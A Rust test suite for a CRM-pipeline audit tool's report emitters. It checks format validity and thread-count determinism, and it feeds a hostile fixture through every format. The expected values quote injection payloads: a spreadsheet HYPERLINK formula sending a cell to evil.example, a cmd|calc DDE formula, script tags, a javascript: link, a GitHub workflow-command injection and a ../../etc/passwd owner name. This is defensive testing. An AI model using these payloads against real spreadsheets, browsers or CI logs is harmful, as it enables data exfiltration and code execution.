//! Every report format end to end, as ruff tests its emitters: the same fixture rendered
//! in every format and snapshotted; each format parsed back by its standard parser (CSV by
//! the csv crate, XML by roxmltree, SARIF against the official schema); the same bytes at
//! any thread count; and a hostile export (formula-like names, `<script>`, pipes and
//! newlines, workflow commands, escape sequences, owners like `../../etc/passwd`) through
//! every format, which must never reach a spreadsheet, a browser, a CI log or the file
//! system as anything but text.

#[path = "reports/ci.rs"]
mod ci;
mod common;

use std::collections::BTreeMap;
use std::path::Path;

use common::{AS_OF, pipelint, run};
use serde_json::Value;

const Q4: &str = "fixtures/salesforce_q4_pipeline.csv";
const HOSTILE: &str = "fixtures/reports/hostile.csv";

/// Every format that writes one stream.
const STREAMS: [&str; 10] = [
    "table", "json", "jsonl", "csv", "deals", "markdown", "html", "junit", "sarif", "github",
];

/// stdout of `audit FILE -f FORMAT` (status 1: the fixtures fail the gate on purpose).
fn render(file: &str, format: &str, extra: &[&str]) -> Vec<u8> {
    let out = pipelint()
        .env_remove("GITHUB_STEP_SUMMARY")
        .args(["audit", file, "--as-of", AS_OF, "-f", format])
        .args(extra)
        .output()
        .expect("run pipelint");
    assert_eq!(
        out.status.code(),
        Some(1),
        "{format}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

fn text(bytes: Vec<u8>) -> String {
    String::from_utf8(bytes).expect("reports are UTF-8")
}

/// Every file an owners report wrote, by name.
fn read_dir(dir: &Path) -> BTreeMap<String, String> {
    std::fs::read_dir(dir)
        .expect("read owners dir")
        .map(|e| {
            let e = e.expect("entry");
            let name = e.file_name().to_string_lossy().into_owned();
            (
                name,
                std::fs::read_to_string(e.path()).expect("owner file is UTF-8"),
            )
        })
        .collect()
}

fn owners(file: &str, dir: &Path, extra: &[&str]) -> BTreeMap<String, String> {
    let r = run(pipelint()
        .args(["audit", file, "--as-of", AS_OF, "-q", "--report"])
        .arg(format!("owners={}", dir.display()))
        .args(extra));
    assert_eq!(r.code, 1, "{}", r.stderr);
    read_dir(dir)
}

/// What `pipelint rules list` prints: every check code with its summary.
fn rules_list() -> String {
    let out = pipelint()
        .args(["rules", "list"])
        .output()
        .expect("rules list");
    text(out.stdout)
}

fn schema_path() -> String {
    format!(
        "{}/../shared/schemas/sarif-schema-2.1.0.json",
        env!("CARGO_MANIFEST_DIR")
    )
}

/// Validate a SARIF log against the official 2.1.0 schema; the errors in words.
fn sarif_schema_errors(log: &Value) -> Result<(), String> {
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(schema_path()).expect("../shared/schemas holds the schema"),
    )
    .expect("schema is JSON");
    let mut schemas = boon::Schemas::new();
    let mut compiler = boon::Compiler::new();
    let url = "https://docs.oasis-open.org/sarif/sarif/v2.1.0/errata01/os/schemas/sarif-schema-2.1.0.json";
    compiler.add_resource(url, schema).expect("add schema");
    let index = compiler.compile(url, &mut schemas).expect("compile schema");
    schemas.validate(log, index).map_err(|e| format!("{e:#}"))
}

fn parse_csv(bytes: &[u8]) -> (Vec<String>, Vec<Vec<String>>) {
    let body = bytes
        .strip_prefix(b"\xEF\xBB\xBF")
        .expect("UTF-8 byte-order mark first, for Excel");
    let mut reader = csv::Reader::from_reader(body);
    let header = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    let rows = reader
        .records()
        .map(|r| {
            r.expect("RFC 4180 row")
                .iter()
                .map(str::to_string)
                .collect()
        })
        .collect();
    (header, rows)
}

/// A cell a spreadsheet would run as a formula.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

// ---------------------------------------------------------------- snapshots

/// One fixture in every format, each snapshotted (JSON documents pretty-printed, so a
/// change reads as a diff).
#[test]
fn every_format_of_one_fixture() {
    for format in STREAMS {
        let out = text(render(Q4, format, &[]));
        let shown = match format {
            "json" | "sarif" => {
                assert_eq!(out.lines().count(), 1, "{format} is compact when piped");
                let v: Value = serde_json::from_str(&out).expect("valid JSON");
                serde_json::to_string_pretty(&v).expect("json")
            }
            _ => out,
        };
        insta::assert_snapshot!(format!("q4_{format}"), shown);
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let files = owners(Q4, &dir.path().join("owners"), &[]);
    let all: String = files
        .iter()
        .map(|(name, body)| format!("===== {name}\n{body}"))
        .collect();
    insta::assert_snapshot!("q4_owners", all);
}

/// Deterministic: the same bytes at one thread and at four, for an export larger than
/// one rendering piece (2,048 records), in every format and for the owners directory.
#[test]
fn every_format_is_the_same_at_any_thread_count() {
    let dir = tempfile::tempdir().expect("tempdir");
    let big = common::temp_file(&dir, "big.csv", common::salesforce_export(6_000));
    for format in STREAMS {
        let one = render(&big, format, &["--threads", "1"]);
        let four = render(&big, format, &["--threads", "4"]);
        assert!(one == four, "{format} differs between --threads 1 and 4");
        assert!(!one.is_empty(), "{format} wrote nothing");
    }
    let one = owners(&big, &dir.path().join("o1"), &["--threads", "1"]);
    let four = owners(&big, &dir.path().join("o4"), &["--threads", "4"]);
    assert_eq!(one, four);
    assert!(one.len() > 3, "{:?}", one.keys());
}

// ---------------------------------------------------------------- one run, many reports

/// The issue's acceptance command: every report in one audit run, each parsed back by its
/// standard parser.
#[test]
fn every_report_in_one_run_parses_back() {
    let dir = tempfile::tempdir().expect("tempdir");
    let at = |name: &str| dir.path().join(name);
    let r = run(pipelint().current_dir(dir.path()).args([
        "audit",
        &format!("{}/{Q4}", env!("CARGO_MANIFEST_DIR")),
        "--as-of",
        AS_OF,
        "--report",
        "html=r.html",
        "--report",
        "sarif=r.sarif",
        "--report",
        "junit=j.xml",
        "--report",
        "csv=f.csv",
        "--report",
        "owners=owners",
        "--report",
        "deals=d.csv",
        "--report",
        "jsonl=f.jsonl",
        "--report",
        "markdown=r.md",
        "--report",
        "json=r.json",
        "--report",
        "github=gh.txt",
    ]));
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stdout.contains("pipelint audit:"),
        "the table still goes to stdout"
    );

    let json: Value =
        serde_json::from_str(&std::fs::read_to_string(at("r.json")).expect("json")).expect("json");
    let findings = json["findings"].as_array().expect("findings").len();
    assert_eq!(findings, 35);

    let sarif: Value =
        serde_json::from_str(&std::fs::read_to_string(at("r.sarif")).expect("sarif"))
            .expect("sarif is JSON");
    sarif_schema_errors(&sarif).expect("SARIF valid against the 2.1.0 schema");
    assert_eq!(
        sarif["runs"][0]["results"].as_array().map(Vec::len),
        Some(35)
    );

    let xml = std::fs::read_to_string(at("j.xml")).expect("junit");
    roxmltree::Document::parse(&xml).expect("JUnit is well-formed XML");

    for name in ["f.csv", "d.csv"] {
        let (_, rows) = parse_csv(&std::fs::read(at(name)).expect("csv"));
        for row in &rows {
            for cell in row {
                assert!(!is_formula(cell), "{name}: formula cell {cell:?}");
            }
        }
    }
    let jsonl = std::fs::read_to_string(at("f.jsonl")).expect("jsonl");
    assert_eq!(jsonl.lines().count(), findings);
    for line in jsonl.lines() {
        serde_json::from_str::<Value>(line).expect("each line is a JSON object");
    }
    let html = std::fs::read_to_string(at("r.html")).expect("html");
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(
        std::fs::read_to_string(at("r.md"))
            .expect("md")
            .starts_with("## pipelint audit")
    );
    assert!(
        std::fs::read_to_string(at("gh.txt"))
            .expect("gh")
            .starts_with("::error ")
    );
    let owners = read_dir(&at("owners"));
    assert!(owners.contains_key("index.md"), "{:?}", owners.keys());
    // Nothing else was left in the directory: no temporary files.
    let mut names: Vec<String> = std::fs::read_dir(dir.path())
        .expect("dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            "d.csv", "f.csv", "f.jsonl", "gh.txt", "j.xml", "owners", "r.html", "r.json", "r.md",
            "r.sarif"
        ]
    );
}

/// Targets are checked before the audit: one bad path fails the run at once, and no other
/// report is written.
#[test]
fn a_bad_report_target_fails_before_anything_is_written() {
    let dir = tempfile::tempdir().expect("tempdir");
    let ok = dir.path().join("ok.csv");
    let r = run(pipelint()
        .args(["audit", Q4, "--as-of", AS_OF, "--report"])
        .arg(format!("csv={}", ok.display()))
        .args(["--report", "html=/nonexistent-dir/r.html"]));
    common::assert_exit_2(&r, "/nonexistent-dir/r.html");
    assert!(
        !ok.exists(),
        "no report is written when another target is bad"
    );

    let r = run(pipelint().args(["audit", Q4, "--as-of", AS_OF, "-f", "owners"]));
    common::assert_exit_2(&r, "--report owners=DIR");

    let file = common::temp_file(&dir, "plain.txt", "x");
    let r = run(pipelint()
        .args(["audit", Q4, "--as-of", AS_OF, "--report"])
        .arg(format!("owners={file}")));
    common::assert_exit_2(&r, "not a directory");
    assert_eq!(std::fs::read_to_string(&file).expect("kept"), "x");
}

// ---------------------------------------------------------------- hostile input

/// Bytes that would drive a terminal or a CI log never leave pipelint raw, in any format.
#[test]
fn no_format_passes_an_escape_sequence_through() {
    for format in STREAMS {
        let out = render(HOSTILE, format, &[]);
        assert!(
            !out.contains(&0x1b),
            "{format} wrote a raw ESC byte from a cell"
        );
    }
    let dir = tempfile::tempdir().expect("tempdir");
    for (name, body) in owners(HOSTILE, &dir.path().join("o"), &[]) {
        assert!(!body.contains('\x1b'), "{name} holds a raw ESC");
    }
}

#[test]
fn hostile_csv_cells_are_neutralised_and_kept_whole() {
    let (header, rows) = parse_csv(&render(HOSTILE, "deals", &[]));
    let col = |name: &str| header.iter().position(|h| h == name).expect(name);
    let names: Vec<&str> = rows.iter().map(|r| r[col("name")].as_str()).collect();
    assert_eq!(
        names,
        [
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "<script>alert('x')</script> Expansion",
            "'+SUM(1+1)*cmd|' /C calc'!A0",
            "Two\nLines, and a | pipe",
            "'@cmd 50% done ::error::pwned",
            "\\x1B[31mRed\\x1B[0m **bold** [link](javascript:alert(1))",
            "'-1+2 Renewal",
            "Normal deal: Café Crème",
        ]
    );
    for row in &rows {
        for (i, cell) in row.iter().enumerate() {
            assert!(
                !is_formula(cell) || header[i] == "amount",
                "{}: {cell:?}",
                header[i]
            );
        }
    }
    let (_, findings) = parse_csv(&render(HOSTILE, "csv", &[]));
    for row in &findings {
        for cell in row {
            assert!(!is_formula(cell), "findings csv: {cell:?}");
        }
    }
}

/// A negative amount is a number, not a formula: it stays as it is.
#[test]
fn negative_amounts_stay_numbers_in_the_deals_csv() {
    let out = pipelint()
        .args([
            "audit",
            "fixtures/real/us_spreadsheet_values.csv",
            "-r",
            "fixtures/real/us_spreadsheet_values.toml",
            "--as-of",
            AS_OF,
            "-f",
            "deals",
        ])
        .output()
        .expect("run");
    let (header, rows) = parse_csv(&out.stdout);
    let amount = header.iter().position(|h| h == "amount").expect("amount");
    let amounts: Vec<&str> = rows.iter().map(|r| r[amount].as_str()).collect();
    assert!(amounts.contains(&"-300.10"), "{amounts:?}");
    assert!(amounts.contains(&"-1200.00"), "{amounts:?}");
}

#[test]
fn hostile_html_is_text_not_markup() {
    let html = text(render(HOSTILE, "html", &[]));
    // The page's own script is the only one, and no cell became an element.
    assert_eq!(html.matches("<script").count(), 1);
    assert!(!html.contains("<img"));
    assert!(!html.contains("onerror=alert"));
    assert!(html.contains("&lt;script&gt;alert('x')&lt;/script&gt; Expansion"));
    let csp = html
        .split("http-equiv=\"Content-Security-Policy\" content=\"")
        .nth(1)
        .and_then(|s| s.split('"').next())
        .expect("a Content-Security-Policy meta tag");
    assert!(csp.starts_with("default-src 'none'"), "{csp}");
    assert!(!csp.contains("unsafe-inline"), "{csp}");
}

/// Every row of every Markdown table has as many cells as its header: no value's `|` or
/// line break splits a row.
#[test]
fn hostile_markdown_tables_keep_their_shape() {
    let md = text(render(HOSTILE, "markdown", &[]));
    let cells = |line: &str| {
        let mut n = 0;
        let mut escaped = false;
        for c in line.chars() {
            match c {
                '\\' if !escaped => escaped = true,
                '|' if !escaped => n += 1,
                _ => escaped = false,
            }
        }
        n
    };
    let mut tables = 0;
    for block in md.split("\n\n") {
        let lines: Vec<&str> = block.lines().filter(|l| l.starts_with('|')).collect();
        if lines.len() < 2 {
            continue;
        }
        tables += 1;
        let width = cells(lines[0]);
        for line in &lines {
            assert_eq!(cells(line), width, "row breaks its table:\n{line}");
        }
    }
    assert!(tables >= 5, "{md}");
    assert!(!md.contains("<script"), "{md}");
    assert!(md.contains("&lt;script&gt;"), "{md}");
    assert!(md.contains("Two Lines, and a \\| pipe"), "{md}");
    assert!(md.contains("\\[link\\](javascript:alert(1))"), "{md}");
}

/// Workflow commands: every line is one command or the summary; nothing a cell holds
/// starts another command or ends a property early.
#[test]
fn hostile_github_annotations_cannot_inject_commands() {
    let out = text(render(HOSTILE, "github", &[]));
    let lines: Vec<&str> = out.lines().collect();
    let (summary, annotations) = lines.split_last().expect("lines");
    assert!(
        summary.starts_with("pipelint: 8 deals audited;"),
        "{summary}"
    );
    for line in annotations {
        let (command, rest) = line.split_once(' ').expect("command and properties");
        assert!(
            ["::error", "::warning", "::notice"].contains(&command),
            "{line}"
        );
        let (props, _message) = rest.split_once("::").expect("properties::message");
        // file=…,line=…,title=…: exactly three properties, whatever the values held.
        let names: Vec<&str> = props
            .split(',')
            .map(|p| p.split_once('=').expect("name=value").0)
            .collect();
        assert_eq!(names, ["file", "line", "title"], "{line}");
    }
    assert!(out.contains("@cmd 50%25 done ::error::pwned"), "{out}");
    assert!(!out.contains("\n::warning::injected"));
}

#[test]
fn hostile_sarif_and_junit_parse() {
    let sarif: Value = serde_json::from_slice(&render(HOSTILE, "sarif", &[])).expect("JSON");
    sarif_schema_errors(&sarif).expect("schema-valid");
    let xml = text(render(HOSTILE, "junit", &[]));
    let doc = roxmltree::Document::parse(&xml).expect("well-formed XML");
    let failures: String = doc
        .descendants()
        .filter(|n| n.has_tag_name("failure"))
        .filter_map(|n| n.text())
        .collect();
    assert!(failures.contains("<script>alert('x')</script> Expansion"));
    for line in text(render(HOSTILE, "jsonl", &[])).lines() {
        serde_json::from_str::<Value>(line).expect("JSON line");
    }
}

#[test]
fn owner_files_are_safe_and_distinct() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("owners");
    let files = owners(HOSTILE, &out, &[]);
    let names: Vec<&str> = files.keys().map(String::as_str).collect();
    assert_eq!(
        names,
        [
            "ann-lee-2.md",
            "ann-lee.md",
            "con-owner.md",
            "dana-whitfield-vp.md",
            "etc-passwd.md",
            "index.md",
            "tab-owner.md",
            "tomás-ibáñez.md",
            "unassigned.md",
        ]
    );
    // Nothing was written outside the directory.
    let mut around: Vec<String> = std::fs::read_dir(dir.path())
        .expect("dir")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect();
    around.sort();
    assert_eq!(around, ["owners"]);
    // `Ann|Lee` sorts before `ann lee` and gets the plain name; each file says whose it is.
    assert!(files["ann-lee.md"].contains("# Action list: Ann\\|Lee"));
    assert!(files["ann-lee-2.md"].contains("# Action list: ann lee"));
    assert!(files["etc-passwd.md"].contains("# Action list: ../../etc/passwd"));
    assert!(files["unassigned.md"].contains("# Action list: Deals without an owner"));
    let index = &files["index.md"];
    for name in names.iter().filter(|n| **n != "index.md") {
        assert!(index.contains(&format!("]({name})")), "index links {name}");
    }
}

// ---------------------------------------------------------------- per format

/// Each owner's list: deals needing action, the largest amount at risk first, why, what to
/// fill, the question to ask; the index links every list; a rerun replaces its own files
/// and removes those it no longer writes, but never a file it did not write.
#[test]
fn owner_lists_order_explain_and_tidy() {
    let dir = tempfile::tempdir().expect("tempdir");
    let out = dir.path().join("owners");
    std::fs::create_dir(&out).expect("mkdir");
    std::fs::write(out.join("notes.md"), "my own notes\n").expect("write");
    std::fs::write(
        out.join("left-over.md"),
        "<!-- pipelint owners: generated, rewritten on every run -->\nold\n",
    )
    .expect("write");
    let files = owners(Q4, &out, &[]);
    assert!(
        files.contains_key("notes.md"),
        "a file of the user's is kept"
    );
    assert!(
        !files.contains_key("left-over.md"),
        "a stale list is removed"
    );
    let marcus = &files["marcus-oyelaran.md"];
    let headings: Vec<&str> = marcus.lines().filter(|l| l.starts_with("## ")).collect();
    assert_eq!(
        headings,
        [
            // At risk, the largest amount first; a deal without an amount after those
            // with one.
            "## 1. Cyberdyne - Edge Licences — USD 143,000.00 — medium risk (45)",
            "## 2. Aperture - Test Chambers — USD 118,000.00 — high risk (100)",
            "## 3. Umbrella Health - Analytics Suite — no amount — high risk (100)",
        ]
    );
    assert!(marcus.contains(
        "- overdue 6 days — *The close date has passed: what date has the buyer committed to?*"
    ));
    assert!(
        marcus.contains("Fields to fill: `amount`, `next_step`"),
        "{marcus}"
    );
    assert!(files["index.md"].contains("| [Marcus Oyelaran](marcus-oyelaran.md) |"));
}

/// FNV-1a over the record id (else the line), the code and the field, each ended by a NUL:
/// the fingerprint's stated recipe, written out here apart from the emitter's.
fn fnv(parts: [&str; 3]) -> String {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for part in parts {
        for &b in part.as_bytes().iter().chain(&[0u8]) {
            hash ^= u64::from(b);
            hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
        }
    }
    format!("{hash:016x}")
}

/// SARIF's partial fingerprint follows the finding, not its line: record id, code and
/// field. Two fields of one deal under one code differ (line 5's two REQ002 findings),
/// every fingerprint is the recipe's, and one is pinned, so that a change to the recipe
/// (which would reopen every alert in code scanning) cannot pass unnoticed.
#[test]
fn sarif_fingerprints_are_the_record_code_and_field() {
    let json: Value = serde_json::from_slice(&render(Q4, "json", &[])).expect("JSON");
    let sarif: Value = serde_json::from_slice(&render(Q4, "sarif", &[])).expect("SARIF");
    let findings = json["findings"].as_array().expect("findings");
    let results = sarif["runs"][0]["results"].as_array().expect("results");
    assert_eq!(findings.len(), results.len());
    assert!(findings.len() > 20, "{} findings", findings.len());
    let print = |r: &Value| {
        r["partialFingerprints"]["pipelint/v1"]
            .as_str()
            .map(str::to_string)
    };
    for (f, r) in findings.iter().zip(results) {
        let line = f["line"].as_u64().expect("line").to_string();
        let who = f["record_id"].as_str().unwrap_or(&line);
        let field = f["field"].as_str().unwrap_or("");
        let code = f["code"].as_str().expect("code");
        assert_eq!(r["ruleId"], code);
        assert_eq!(print(r), Some(fnv([who, code, field])), "{f}");
    }
    let line5: Vec<(String, Option<String>)> = findings
        .iter()
        .zip(results)
        .filter(|(f, _)| f["line"] == 5 && f["code"] == "REQ002")
        .map(|(f, r)| (f["field"].as_str().expect("field").to_string(), print(r)))
        .collect();
    assert_eq!(line5.len(), 2, "{line5:?}");
    assert_ne!(line5[0].0, line5[1].0);
    assert_ne!(line5[0].1, line5[1].1, "two fields, one fingerprint");
    // HYG002 on line 3: record 0065g00000QX1aBAA, field last_activity.
    assert_eq!(
        (findings[0]["line"].as_u64(), print(&results[0]).as_deref()),
        (Some(3), Some("7da776dde6f69b26"))
    );
}
